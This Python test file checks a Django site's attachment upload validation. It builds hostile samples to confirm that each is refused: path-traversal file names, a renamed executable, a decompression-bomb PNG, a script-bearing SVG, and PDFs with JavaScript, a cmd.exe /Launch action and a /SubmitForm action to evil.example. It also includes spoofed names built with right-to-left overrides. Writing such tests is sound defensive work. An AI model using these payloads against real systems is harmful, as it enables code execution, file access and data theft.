"""Upload attacks are refused with a message that says why, through the real multipart parser of
the site and of the API; good files are stored outside MEDIA_ROOT and re-encoded when images."""

import io
import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from scenarios import services
from scenarios.models import BidAttachment

from .conftest import minimal_pdf

pytestmark = pytest.mark.usefixtures("messages_in_english")


@pytest.fixture
def bid(company_a, challenge):
    company, user = company_a
    return services.bid_create(company, challenge, user, fields={"summary": ""})


@pytest.fixture
def owner_client(client, company_a):
    client.force_login(company_a[1])
    client.cookies["django_language"] = "en"
    return client


BOUNDARY = "----boundary7MA4YWxkTrZu0gW"


def multipart(name, content, content_type):
    """A multipart body written by hand: Django's test client would cut the path off the file
    name before sending, and the attack is the path."""
    head = (
        f"--{BOUNDARY}\r\n"
        f'Content-Disposition: form-data; name="file"; filename="{name}"\r\n'
        f"Content-Type: {content_type}\r\n\r\n"
    ).encode()
    return head + content + f"\r\n--{BOUNDARY}--\r\n".encode()


def post_file(client, url, name, content, content_type="application/pdf", **extra):
    return client.post(
        url,
        data=multipart(name, content, content_type),
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
        **extra,
    )


def upload_through_site(client, bid, name, content, content_type="application/pdf"):
    response = post_file(
        client, f"/bids/{bid.pk}/attachments/", name, content, content_type, follow=True
    )
    return " ".join(str(m) for m in response.context["messages"])


def png_header_only(width, height):
    """A tiny PNG whose header claims width×height pixels: a decompression bomb's shape."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (1 + width // 8) * 64, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


def test_a_real_pdf_is_stored_outside_media_root(owner_client, bid, settings):
    message = upload_through_site(owner_client, bid, "技术方案.pdf", minimal_pdf())
    assert "was attached" in message
    attachment = BidAttachment.objects.get()
    assert (attachment.original_name, attachment.kind) == ("技术方案.pdf", "pdf")
    path = attachment.file.path
    assert path.startswith(str(settings.PRIVATE_MEDIA_ROOT))
    assert not path.startswith(str(settings.MEDIA_ROOT))
    with pytest.raises(ValueError, match="no public URL"):
        attachment.file.url  # noqa: B018  (sealed files have no public URL)


def test_an_executable_renamed_pdf_is_refused_naming_what_it_is(owner_client, bid):
    exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200 + b"PE\x00\x00"
    message = upload_through_site(owner_client, bid, "方案.pdf", exe)
    assert "方案.pdf was refused" in message
    assert "is not a PDF or a PNG, JPEG, GIF or WebP image" in message
    assert "application/x-msdownload" in message
    assert not BidAttachment.objects.exists()


def test_a_pdf_over_the_limit_is_refused_with_both_sizes(owner_client, bid, settings):
    settings.BID_ATTACHMENT_MAX_BYTES = 50_000
    message = upload_through_site(owner_client, bid, "big.pdf", minimal_pdf(extra=b"%" * 60_000))
    assert "the limit is 48.8" in message
    assert not BidAttachment.objects.exists()


@pytest.mark.parametrize(
    ("width", "expected"),
    [
        (8_000, "8000×8000 pixels; the limit is 40 million"),  # over our limit
        (30_000, "a decompression bomb"),  # over Pillow's own hard limit
    ],
)
def test_a_decompression_bomb_is_refused_before_it_is_decoded(owner_client, bid, width, expected):
    bomb = png_header_only(width, width)
    assert len(bomb) < 100_000
    message = upload_through_site(owner_client, bid, "photo.png", bomb, "image/png")
    assert expected in message
    assert not BidAttachment.objects.exists()


def test_an_svg_with_a_script_is_refused(owner_client, bid):
    svg = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    message = upload_through_site(owner_client, bid, "logo.svg", svg, "image/svg+xml")
    assert "SVG files are not accepted because they can carry scripts" in message
    assert not BidAttachment.objects.exists()


@pytest.mark.parametrize("name", ["../../etc/passwd.pdf", "..\\..\\boot.ini.pdf", "a/b.pdf"])
def test_a_file_name_with_path_separators_is_refused(owner_client, bid, name):
    message = upload_through_site(owner_client, bid, name, minimal_pdf())
    assert "contains a path separator" in message
    assert not BidAttachment.objects.exists()


def test_a_pdf_with_javascript_is_refused(bid, company_a):
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(width=100, height=100)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('x');"),
        }
    )
    out = io.BytesIO()
    writer.write(out)
    with pytest.raises(Exception, match="contains scripts"):
        services.attachment_add(
            bid, company_a[1], SimpleUploadedFile("a.pdf", out.getvalue(), "application/pdf")
        )


def test_a_truncated_pdf_is_refused(owner_client, bid):
    message = upload_through_site(owner_client, bid, "cut.pdf", b"%PDF-1.7\n1 0 obj\n<<")
    assert "cannot be read as one" in message


def test_images_are_re_encoded_without_their_metadata(owner_client, bid):
    image = Image.new("RGB", (64, 48), "red")
    exif = Image.Exif()
    exif[0x010F] = "SecretCam"  # camera make
    original = io.BytesIO()
    image.save(original, "JPEG", exif=exif.tobytes())
    assert b"SecretCam" in original.getvalue()
    upload_through_site(
        owner_client, bid, "现场.jpg", original.getvalue() + b"TRAILING", "image/jpeg"
    )
    attachment = BidAttachment.objects.get()
    stored = attachment.file.read()
    assert (attachment.kind, attachment.content_type) == ("image", "image/jpeg")
    assert b"SecretCam" not in stored
    assert b"TRAILING" not in stored
    assert Image.open(io.BytesIO(stored)).size == (64, 48)


def test_the_api_refuses_the_same_attacks_with_a_400_naming_the_problem(client, bid, company_a):
    client.force_login(company_a[1])
    exe = b"MZ" + b"\x00" * 300
    url = f"/api/v1/bids/{bid.pk}/attachments"
    english = {"headers": {"Accept-Language": "en"}}
    response = post_file(client, url, "../x.pdf", exe, **english)
    assert response.status_code == 400
    assert "path separator" in response.json()["detail"]
    response = post_file(client, url, "x.pdf", exe)
    assert response.status_code == 400
    assert "路径分隔符" not in response.json()["detail"]
    assert "内容为" in response.json()["detail"]
    response = post_file(client, url, "x.pdf", exe, **english)
    assert response.status_code == 400
    assert "application/x-msdownload" in response.json()["detail"]
    assert not BidAttachment.objects.exists()


def test_an_oversized_logo_is_refused_on_the_profile_form(owner_client, company_a, settings):
    settings.LOGO_MAX_PIXELS = 1_000_000
    big = io.BytesIO()
    Image.new("RGB", (1200, 1000), "white").save(big, "PNG")
    company, _owner = company_a
    response = owner_client.post(
        "/account/profile/",
        {
            "name": company.name,
            "kind": company.kind,
            "uscc": company.uscc,
            "logo_upload": SimpleUploadedFile("logo.png", big.getvalue(), "image/png"),
        },
    )
    assert response.status_code == 200
    assert "1200×1000 pixels" in str(response.context["form"].errors["logo_upload"])
    company.refresh_from_db()
    assert not company.logo


def _pdf_with(attach):
    """A one-page PDF written by pypdf, with `attach(writer, page)` adding the active content."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    attach(writer, page)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind, **entries):
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = (
            value if not isinstance(value, str) else TextStringObject(value)
        )
    return action


def _add_annotation(writer, page, subtype, **entries):
    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject

    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject(subtype),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 90, 30)]),
        }
    )
    for key, value in entries.items():
        annotation[NameObject(f"/{key}")] = value
    reference = writer._add_object(annotation)
    page[NameObject("/Annots")] = ArrayObject([reference])
    return reference


def _page_open_script(writer, page):
    from pypdf.generic import DictionaryObject, NameObject

    page[NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _action("/JavaScript", JS="app.alert('page');")}
    )


def _link_script(writer, page):
    _add_annotation(writer, page, "/Link", A=_action("/JavaScript", JS="app.alert('link');"))


def _link_launch(writer, page):
    _add_annotation(writer, page, "/Link", A=_action("/Launch", F="cmd.exe"))


def _link_chained_script(writer, page):
    # A harmless web link whose /Next runs a script once followed.
    chained = _action("/URI", URI="https://example.cn/")
    from pypdf.generic import NameObject

    chained[NameObject("/Next")] = _action("/JavaScript", JS="app.alert('next');")
    _add_annotation(writer, page, "/Link", A=chained)


def _widget_script(writer, page):
    from pypdf.generic import DictionaryObject, NameObject

    _add_annotation(
        writer,
        page,
        "/Widget",
        AA=DictionaryObject({NameObject("/E"): _action("/JavaScript", JS="app.alert('w');")}),
    )


def _form_field_script(writer, page):
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    field = writer._add_object(
        DictionaryObject(
            {
                NameObject("/FT"): NameObject("/Tx"),
                NameObject("/T"): TextStringObject("amount"),
                NameObject("/AA"): DictionaryObject(
                    {NameObject("/K"): _action("/JavaScript", JS="event.rc = true;")}
                ),
            }
        )
    )
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([field])}
    )


def _outline_submit_form(writer, page):
    from pypdf.generic import NameObject

    item = writer.add_outline_item(title="Send", page_number=0)
    item.get_object()[NameObject("/A")] = _action("/SubmitForm", F="https://evil.example/")


@pytest.mark.parametrize(
    ("attach", "expected"),
    [
        (_page_open_script, "contains scripts"),
        (_link_script, "contains scripts"),
        (_link_launch, "/Launch"),
        (_link_chained_script, "contains scripts"),
        (_widget_script, "contains scripts"),
        (_form_field_script, "contains scripts"),
        (_outline_submit_form, "/SubmitForm"),
    ],
    ids=["page-AA", "link-JS", "link-Launch", "link-Next-JS", "widget-AA", "field-AA", "outline"],
)
def test_a_pdf_with_actions_in_pages_annotations_or_forms_is_refused(attach, expected):
    from django.core.exceptions import ValidationError

    from scenarios.uploads import check_attachment

    data = _pdf_with(attach)
    with pytest.raises(ValidationError) as refused:
        check_attachment(SimpleUploadedFile("方案.pdf", data, "application/pdf"))
    assert expected in " ".join(refused.value.messages)


def test_a_pdf_with_an_ordinary_web_link_is_accepted():
    from scenarios.uploads import check_attachment

    data = _pdf_with(
        lambda writer, page: _add_annotation(
            writer, page, "/Link", A=_action("/URI", URI="https://www.most.gov.cn/")
        )
    )
    checked = check_attachment(SimpleUploadedFile("方案.pdf", data, "application/pdf"))
    assert checked.kind == "pdf"


def test_a_pdf_with_a_page_script_is_refused_through_the_site(owner_client, bid):
    message = upload_through_site(owner_client, bid, "方案.pdf", _pdf_with(_page_open_script))
    assert "contains scripts" in message
    assert not BidAttachment.objects.exists()


def _gif():
    out = io.BytesIO()
    Image.new("P", (8, 8), 3).save(out, "GIF")
    return out.getvalue()


def _jpeg():
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "blue").save(out, "JPEG")
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "stored_name"),
    [
        ("报告\u202efdp.exe", "pdf", "报告fdp.pdf"),  # right-to-left override: shows "exe.pdf"
        ("方\u200b案\u200d\ufeff.pdf", "pdf", "方案.pdf"),  # zero-width characters
        ("\u2066合同\u2069\u200e.pdf", "pdf", "合同.pdf"),  # bidi isolates and marks
        ("ｂｉｄ．ｐｄｆ", "pdf", "bid.pdf"),  # full-width letters and dot (NFKC)
        ("page.html", "pdf", "page.pdf"),  # a PDF named .html
        ("PAGE.PDF", "pdf", "PAGE.PDF"),
        ("技术方案", "pdf", "技术方案.pdf"),
        ("report.v2", "pdf", "report.v2.pdf"),
        ("anim.gif", "gif", "anim.png"),  # re-encoded to PNG
        ("photo.jpeg", "jpeg", "photo.jpeg"),
        ("photo.png", "jpeg", "photo.jpg"),
        ("\u202e\u200b.pdf", "pdf", "attachment.pdf"),  # nothing left of the stem
    ],
)
def test_upload_names_are_normalised_and_match_the_content(name, content, stored_name):
    from scenarios.uploads import check_attachment

    data = {"pdf": minimal_pdf, "gif": _gif, "jpeg": _jpeg}[content]()
    checked = check_attachment(SimpleUploadedFile(name, data))
    assert checked.name == stored_name


def test_a_name_that_grows_under_nfkc_is_cut_to_the_limit_keeping_its_extension():
    from scenarios.uploads import check_attachment

    name = "㎏" * 140 + ".pdf"  # 144 characters, 284 once "㎏" becomes "kg"
    checked = check_attachment(SimpleUploadedFile(name, minimal_pdf()))
    assert len(checked.name) == 150
    assert checked.name == "kg" * 73 + ".pdf"


def test_a_right_to_left_override_is_gone_from_the_stored_name_through_the_site(owner_client, bid):
    message = upload_through_site(owner_client, bid, "方案\u202efdp.html", minimal_pdf())
    assert "was attached" in message
    assert BidAttachment.objects.get().original_name == "方案fdp.pdf"
